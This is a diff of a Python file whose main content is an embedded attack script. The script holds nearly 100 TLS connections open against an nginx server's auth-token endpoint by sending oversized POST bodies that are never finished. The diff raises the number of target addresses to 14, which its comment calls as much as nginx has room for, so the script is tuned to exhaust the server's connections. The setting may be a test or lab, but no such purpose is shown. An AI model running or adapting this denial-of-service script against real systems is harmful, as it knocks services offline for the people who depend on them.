@@ -112,21 +112,22 @@ print(sent)
 """
 FRONT: Final = "/srv/current/nginx/front.conf"
 CHOSEN: Final = "/srv/current/nginx/templates/upstream.conf.template"
-ADDRESSES: Final = 4
-# Each address may hold a hundred connections.
+# As much as nginx has room for: each may hold a hundred connections, eight of them large.
+ADDRESSES: Final = 14
 UNFINISHED: Final = """
 import socket, ssl, time
 context = ssl._create_unverified_context()
 head = (
     b"POST /api/v1/auth/token/ HTTP/1.1\\r\\nHost: localhost\\r\\n"
-    b"Content-Type: application/json\\r\\nContent-Length: 999999\\r\\n\\r\\n"
+    b"Content-Type: application/json\\r\\nContent-Length: %d\\r\\n\\r\\n"
 )
 held = []
 for number in range(95):
+    length = 999999 if number < 8 else 99999
     try:
         plain = socket.create_connection(("nginx", 8443), 5)
         held.append(context.wrap_socket(plain, server_hostname="localhost"))
-        held[-1].sendall(head + b" " * 999998)
+        held[-1].sendall(head % length + b" " * (length - 1))
     except OSError:
         pass
 time.sleep(5)
